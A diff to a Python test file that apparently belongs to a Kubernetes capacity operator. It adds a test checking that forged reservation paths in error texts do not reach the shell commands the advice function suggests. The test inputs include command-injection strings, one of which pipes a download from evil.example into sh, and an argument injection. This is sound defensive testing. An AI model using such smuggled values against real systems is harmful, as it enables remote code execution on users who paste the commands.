@@ -3,6 +3,7 @@
 import pytest
 
 from mistral_operator.capacity import errors
+from mistral_operator.capacity.advice import ClusterPlace, advise
 from mistral_operator.capacity.errors import QuotaNamed, classify, parse_quota
 
 INCOMPATIBLE = "Cluster is running incompatible operation operation-1700000000000-aaaa."
@@ -102,3 +103,20 @@ def test_what_needs_somebody_is_not_retried_soon(text: str) -> None:
 )
 def test_the_quota_that_an_error_names_is_found(text: str, expected: QuotaNamed) -> None:
     assert parse_quota(text) == expected
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "projects/$(curl${IFS}evil.example|sh)/zones/us-central1-a/reservations/gpus",
+        "projects/p`id`/zones/us-central1-a/reservations/gpus",
+        "projects/p/zones/us-central1-a;id/reservations/gpus",
+        "projects/--impersonate/zones/us-central1-a/reservations/gpus",
+    ],
+)
+def test_a_forged_text_puts_nothing_into_a_command(path: str) -> None:
+    """Whoever may create Events writes such texts, and people paste the commands."""
+    finding = classify("", f"RESERVATION_CAPACITY_EXCEEDED: {path}").finding
+    told = advise(finding, ClusterPlace("our-project", "us-central1", "serving"))
+    assert told.count("NAME --zone ZONE --project our-project") == 2
+    assert path not in told
